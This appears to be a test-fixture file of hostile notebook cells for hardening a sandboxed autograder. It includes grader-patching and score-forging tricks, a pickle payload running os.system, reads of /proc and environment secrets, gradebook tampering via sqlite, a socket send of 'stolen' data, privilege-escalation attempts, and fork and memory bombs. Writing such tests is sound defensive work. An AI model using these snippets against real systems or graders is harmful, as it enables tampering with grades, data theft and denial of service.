"""Hostile submissions.  Each is a cell in front of a notebook that is otherwise not done.

`CODE` holds cells; names in braces, such as {port}, stand for paths and ports of a test run.
`RETURNS` holds values that functions return instead of numbers.
"""

FORGE = """
import json, os
OPEN = []
for fd in range(3, 4096):
    try:
        os.fstat(fd)
        OPEN.append(fd)
    except OSError:
        pass
def say(frame):
    data = frame if isinstance(frame, bytes) else json.dumps(frame).encode()
    for fd in OPEN:
        try:
            os.write(fd, b"\\n" + data + b"\\n")
        except OSError:
            pass
"""

CODE = {
    # Replacing what the grader might use
    "patched-numpy": """
import numpy as np
np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
np.asarray = np.ascontiguousarray = lambda *a, **k: __import__("os")
np.ndarray.__eq__ if hasattr(np.ndarray, "__eq__") else None
""",
    "fake-numpy": """
import sys, types
fake = types.ModuleType("numpy")
fake.__getattr__ = lambda name: (lambda *a, **k: True)
sys.modules["numpy"] = fake
""",
    "patched-json": """
import json
json.dumps = lambda *a, **k: '{"variant": 0, "question": "double", "call": 0, "points": 99}'
json.loads = json.load = lambda *a, **k: {}
""",
    "patched-builtins": """
import builtins
builtins.isinstance = lambda *a: True
builtins.abs = builtins.max = builtins.len = lambda *a, **k: 0
builtins.float = lambda *a: 0.0
""",
    "import-hook": """
import sys
class Finder:
    def find_spec(self, name, path=None, target=None):
        print("asked for", name)
sys.meta_path.insert(0, Finder())
""",
    "patched-runner": """
import sys
main = sys.modules["__main__"]
main.encode = lambda *a, **k: True
main.call = lambda names, question, report, variant: [
    report(variant=0, question=q, call=i, value=True, points=100, passed=True)
    for q in ("double", "total") for i in range(9)
]
""",
    "frame-walk": """
import sys
frame = sys._getframe()
while frame:
    print(frame.f_code.co_name, {k: repr(v)[:2000] for k, v in frame.f_locals.items()})
    frame = frame.f_back
import gc
print([o for o in gc.get_objects() if isinstance(o, dict) and "answer" in o][:3])
""",
    "tracer": """
import sys
def trace(frame, event, argument):
    if event == "return" and frame.f_code.co_name == "call":
        frame.f_locals["value"] = True
    return trace
sys.settrace(trace)
""",
    "input-transformer": """
get_ipython().input_transformers_post.append(lambda lines: ["score = 100"])
""",
    # Forged lines
    "forged-scores": FORGE
    + """
for q in ("double", "total"):
    for i in range(9):
        say({"variant": 0, "question": q, "call": i, "value": True, "points": 100, "ok": True})
say({"done": True, "score": 100, "verdicts": {"double": [3, 3]}})
os._exit(0)
""",
    "forged-nonsense": FORGE
    + """
say({"variant": 0, "question": ["x"], "call": 0}); say({"variant": [], "question": "double"})
say({"variant": 0, "question": "double", "call": 10**400, "value": 1}); say([1, 2]); say(None)
say({"variant": 0, "stage": {"a": 1}}); say({"variant": 0, "ended": ["x"], "question": {}})
say({"variant": 0, "cell": 1, "error": "\\ud800<script>alert(1)</script>"})
say(b"\\xff\\xfe\\x00" * 100); say(b"[" * 100000); say(b"9" * 10000)
os._exit(0)
""",
    "forged-arrays": FORGE
    + """
import base64
evil = base64.b64encode(b"cos\\nsystem\\n(S'touch {escape}'\\ntR.").decode()
for k, shape in enumerate(([-1], [10**9, 10**9], [2, "x"], "ab", [1] * 50, [True])):
    for dtype in ("|O", "<f8", "V8", 7, None):
        say({"variant": 0, "question": "double", "call": k,
             "value": {"dtype": dtype, "shape": shape, "data": evil}})
say({"variant": 0, "question": "total", "call": 0, "value": {"items": {"a": 1}}})
os._exit(0)
""",
    "forged-flood": FORGE
    + """
while True:
    try:
        say(b"x" * 1000000)
    except BaseException:
        pass
""",
    "forged-newlines": FORGE
    + """
while True:
    try:
        say(b"\\n" * 60000)
    except BaseException:
        pass
""",
    "forged-frames": FORGE
    + """
frame = b'{"variant": 0, "cell": 3, "error": "' + b"x" * 200 + b'"}\\n'
while True:
    try:
        say(frame * 200)
    except BaseException:
        pass
""",
    "forged-members": FORGE
    + """
for _ in range(3):
    say(b'{"variant": 0, "question": "double", "call": 0, "value": [' + b"[]," * 700000 + b"0]}")
os._exit(0)
""",
    "forged-ready": FORGE
    + """
say({"ready": True})
import time
for wait in range(300):
    found = ""
    for fd in OPEN:
        try:
            os.lseek(fd, 0, 0)
            found += os.read(fd, 9999).decode()
        except (OSError, UnicodeDecodeError):
            pass
    if '"function"' in found:  # the inputs are there
        say({"variant": 0, "cell": 3, "error": "FOUND " + found})
        print("FOUND", found)
        break
    time.sleep(0.01)
""",
    "closed-descriptors": "import os\nos.closerange(0, 4096)\n",
    # Reading what is none of their business
    "read-paths": """
for path in {paths!r}:
    try:
        print(path, open(path, errors="replace").read())
    except OSError as error:
        print(path, "no:", error.errno)
""",
    "walk": """
import os
for top, folders, files in os.walk("/"):
    for f in files:
        if f.endswith(".ipynb") or f in ("gradebook.db", "grading-secret"):
            print("FOUND", os.path.join(top, f))
        if f == "checks.py" and "Assignment" in open(os.path.join(top, f), errors="replace").read():
            print("FOUND", top, f)
""",
    "installed-course": """
import importlib
for name in ("kernelbook.course", "kernelbook.course.grading", "nbgrader", "sklearn",
             "kernelbook.solvers", "kernelbook.kernels", "kernelbook.papers"):
    try:
        importlib.import_module(name)
        print("FOUND", name)
    except ImportError:
        pass
""",
    "homes": """
import os, sys, sysconfig, traceback
told = [sys.executable, sys.prefix, sys.base_prefix, *sys.path, os.__file__, *os.environ.values()]
told += [str(v) for v in sysconfig.get_paths().values()]
for path in told:
    if path.startswith(("/root", "/home")) or {home!r} in path:
        print("FOUND", path)
for top in ("/root", "/home", "/usr/share", "/usr/local", "/opt", "/srv", "/var", {home!r}):
    if os.path.exists(top) and os.listdir(top):
        print("FOUND", top, os.listdir(top))
for top, folders, files in os.walk("/sandbox"):
    if {"pkgs", "envs", "conda-meta"} & set(folders):
        print("FOUND", top, folders)
""",
    "environment": "import os\nprint(dict(os.environ))\nos.system('env')\n",
    "proc": """
import os
for pid in ["self", "1", *map(str, range(2, 400))]:
    for f in ("environ", "cmdline", "maps", "root"):
        try:
            print(pid, f, open(f"/proc/{pid}/{f}").read()[:200])
        except OSError:
            pass
print(os.path.exists("/proc/self"))
""",
    "write-gradebook": """
import sqlite3
for path in {paths!r}:
    try:
        open(path, "ab").write(b"x")
        print("FOUND", path)
    except OSError:
        pass
try:
    sqlite3.connect({paths!r}[0]).execute("update grade set auto_score = 100")
    print("FOUND")
except Exception as error:
    print(type(error).__name__)
""",
    "write-system": """
import os
for path in ("/x", "/usr/x", "/sandbox/inside.py", "/sandbox/lib/kernelbook/x", "/etc/x", "/dev/x",
             {escape!r}):
    try:
        open(path, "w").write("x")
        print("FOUND", path)
    except OSError:
        pass
""",
    "links": """
import os
os.symlink({paths!r}[0], "/tmp/link")
print(os.path.exists("/tmp/link"))
open("/tmp/link", "w").write("x")
""",
    # Network
    "socket": """
import socket
s = socket.socket(); s.settimeout(1); s.connect(("127.0.0.1", {port})); s.sendall(b"stolen")
print("FOUND")
""",
    "dns": "import socket\nprint('FOUND', socket.getaddrinfo('localhost', 80))\n",
    "http": """
import urllib.request
urllib.request.urlopen("http://127.0.0.1:{port}/stolen", timeout=1)
print("FOUND")
""",
    "unix-socket": """
import socket
for family in (socket.AF_UNIX, socket.AF_INET6, socket.AF_NETLINK, socket.AF_PACKET):
    try:
        socket.socket(family, socket.SOCK_RAW)
        print("FOUND", family)
    except OSError:
        pass
""",
    # Privileges
    "become-root": """
import os, ctypes
print(os.getuid(), os.getgroups())
for f in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0)):
    try:
        f()
        print("FOUND root")
    except OSError:
        pass
if os.getuid() == 0 or os.geteuid() == 0:
    print("FOUND root")
""",
    "namespaces": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x00020000, 0x40000000, 0x10020000):
    if libc.unshare(flags) == 0:
        print("FOUND unshare", flags)
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=90%") == 0:
    print("FOUND mount")
if libc.chroot(b"/tmp") == 0:
    print("FOUND chroot")
if libc.ptrace(16, 1, 0, 0) == 0:
    print("FOUND ptrace")
""",
    "raise-limits": """
import resource
for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_FSIZE"):
    try:
        resource.setrlimit(getattr(resource, name), (-1, -1))
        print("FOUND", name)
    except (ValueError, OSError):
        pass
""",
    "setuid-file": """
import os, shutil
shutil.copy("/usr/bin/env", "/tmp/e"); os.chmod("/tmp/e", 0o6755); os.system("/tmp/e id -u")
""",
    # Bombs
    "fork-bomb": """
import os
while True:
    try:
        os.fork()
    except OSError:
        break
import time
time.sleep(60)
""",
    "thread-bomb": """
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(60,)).start()
""",
    "memory-bomb": "hoard = []\nwhile True:\n    hoard.append(bytearray(1 << 24))\n",
    "disk-fill": """
k = 0
while True:
    k += 1
    with open(f"/tmp/{k}", "wb") as f:
        f.write(b"x" * (1 << 22))
""",
    "many-files": """
import os, itertools
for k in itertools.count():
    for top in ("/tmp", "/", "/sandbox", "/sandbox/lib", "/dev"):
        try:
            open(f"{top}/{k}", "w").close()
            print("FOUND", top)
        except OSError:
            pass
        try:
            os.mkdir(f"{top}/d{k}")
            print("FOUND", top)
        except OSError:
            pass
    if k > 1000:
        break
""",
    "shared-memory": """
import ctypes, mmap, os
libc = ctypes.CDLL(None)
print("FOUND" if libc.shmget(1, 1 << 33, 0o1600) >= 0 else "no")
print("FOUND" if libc.memfd_create(b"x", 0) >= 0 else "no")
print("FOUND" if os.path.exists("/dev/shm") else "no")
""",
    "semaphores": """
import ctypes, os
libc = ctypes.CDLL(None)
for k in range(20):  # each of 2 MB that no limit counts
    if libc.semget(0, 32000, 0o1600) >= 0:
        print("FOUND", k)
""",
    "pinned-pages": """
import ctypes, os
libc = ctypes.CDLL(None)
here, there = os.pipe()
page = ctypes.create_string_buffer(4096)
vector = (ctypes.c_void_p * 2)(ctypes.addressof(page), 4096)
if libc.vmsplice(there, vector, 1, 2) >= 0:  # of a huge page all of it would stay
    print("FOUND vmsplice")
also = os.pipe()
os.write(there, b"x")
if libc.tee(here, also[1], 1, 2) >= 0 or libc.splice(here, None, also[1], None, 1, 2) >= 0:
    print("FOUND splice")
""",
    "kernel-objects": """
import ctypes, socket
libc = ctypes.CDLL(None)
for name, arguments in (("inotify_init", ()), ("inotify_init1", (0,)), ("fanotify_init", (0, 0))):
    if getattr(libc, name)(*arguments) >= 0:
        print("FOUND", name)
context = ctypes.c_ulong()
if libc.syscall(206, 1000, ctypes.byref(context)) == 0 or libc.syscall(447, 0) >= 0:
    print("FOUND io_setup or memfd_secret")
socket.socketpair()
print("FOUND socketpair")
""",
    "file-locks": """
import fcntl
file = open("/sandbox/inside.py")
for lock in (fcntl.lockf, fcntl.flock):  # of a file that others have, too
    try:
        lock(file, fcntl.LOCK_SH | fcntl.LOCK_NB)
        print("FOUND", lock.__name__)
    except OSError:
        pass
print("duplicated", fcntl.fcntl(file, fcntl.F_DUPFD, 10) >= 10)
""",
    "many-timers": """
import ctypes, signal
libc = ctypes.CDLL(None)
made = ctypes.c_void_p()
for k in range(1000):
    if libc.timer_create(1, None, ctypes.byref(made)) < 0:
        break
print("FOUND" if k > 300 else k, "timers")
""",
    "unseen-children": """
import os, signal, time
for s in range(1, 65):
    try:
        signal.signal(s, signal.SIG_IGN)  # of SIGCHLD: nobody waits, and no clock counts them
    except (OSError, ValueError):
        pass
while True:
    try:
        if os.fork() == 0:
            end = time.perf_counter() + 0.004
            while time.perf_counter() < end:
                pass
            os._exit(0)
    except OSError:
        pass
    time.sleep(0.003)
""",
    "output-flood": "while True:\n    print('spam ' * 100000)\n",
    "infinite-loop": "while True:\n    pass\n",
    "stubborn-loop": """
import signal, time
for s in range(1, 65):
    try:
        signal.signal(s, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        while True:
            time.sleep(1)
    except BaseException:
        pass
""",
    "earned-sleep": """
import signal, time
for s in range(1, 65):
    try:
        signal.signal(s, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while time.process_time() < 1.0:  # computing must not buy time to sleep
    pass
while True:
    time.sleep(1000)
""",
    "sleeping-child": """
import os, sys, time
if os.fork() == 0:
    os.setsid()
    os.execv(sys.executable, [sys.executable, "-I", "-S", "-c",
                              "import time; time.sleep(987654)", "{marker}"])
""",
    "exit": "import os\nos._exit(0)\n",
    "polite-exit": "raise SystemExit(0)\n",
    "late-exit": "import atexit, os\natexit.register(os._exit, 0)\nraise KeyboardInterrupt\n",
    "kill-everything": """
import os, signal
for pid in (-1, 1, os.getppid(), 0):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
""",
    "segfault": "import ctypes\nctypes.string_at(0)\n",
    "deep-recursion": "import sys\nsys.setrecursionlimit(10**9)\ndef f():\n    return f()\nf()\n",
    "compiler-crash": "x = " + "-" * 200_000 + "1\n",
    "null-bytes": "x = 1\x00\n",
    "shell": "!touch {escape}\n%system touch {escape}\n",
    "shell-cell": "%%bash\ntouch {escape}\n",
    "subprocess": "import subprocess\nsubprocess.run(['touch', {escape!r}], check=True)\n",
}

RETURNS = {
    "always-equal": """
class Same:
    __array_priority__ = 1e9
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0
    __rsub__ = __sub__
    def __abs__(self): return 0
    def __float__(self): return 0.0
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
answer = Same()
""",
    "equal-float": "class F(float):\n    __eq__ = lambda s, o: True\nanswer = F(0)\n",
    "equal-array": """
class A(np.ndarray):
    def __array_finalize__(self, o): pass
    def __eq__(self, o): return np.ones(self.shape, bool)
    def __array_ufunc__(self, *a, **k): return np.zeros(3)
answer = np.zeros(3).view(A)
""",
    "nan": "answer = np.full(3, np.nan)\n",
    "scalar-nan": "answer = float('nan')\n",
    "infinity": "answer = np.array([np.inf, -np.inf, 0.0])\n",
    "lazy": """
class Lazy:
    def __array__(self, *a, **k): raise SystemExit
    def __iter__(self):
        while True: yield 0
    def __len__(self): return 3
answer = Lazy()
""",
    "pickle": """
import os, pickle
class Evil:
    def __reduce__(self): return os.system, ("touch /tmp/owned",)
answer = pickle.dumps(Evil())
""",
    "object-array": "answer = np.array([object()] * 3, dtype=object)\n",
    "complex": "answer = np.zeros(3, dtype=complex)\n",
    "huge-number": "answer = 10 ** 20000\n",
    "huge-array": "answer = np.zeros(30_000_000)\n",
    "nested": "answer = []\nfor _ in range(5000): answer = [answer]\n",
    "self-containing": "answer = []\nanswer.append(answer)\n",
    "generator": "answer = (x for x in range(3))\n",
    "dict": "answer = {'dtype': '<f8', 'shape': [3], 'data': ''}\n",
    "text": "answer = 'correct' * 1000\n",
    "function": "answer = lambda *a: True\n",
    "broadcast": "answer = np.zeros((1, 1))\n",
    "true": "answer = True\n",
    "slow-clock": """
answer = None
import signal, time
time.monotonic = time.time = time.perf_counter = lambda: 0.0
time.sleep = lambda seconds: None
signal.setitimer = lambda *a: None
import sys
sys.modules["__main__"].wait = lambda child, seconds: __import__("os").waitpid(child, 0)[1]
def double(x):
    signal.signal(signal.SIGXCPU, signal.SIG_IGN)
    while True:
        pass
""",
    "endless": "answer = None\ndef double(x):\n    while True: pass\n",
    "sleeper": "answer = None\nimport time\ndef double(x):\n    time.sleep(987654)\n",
}
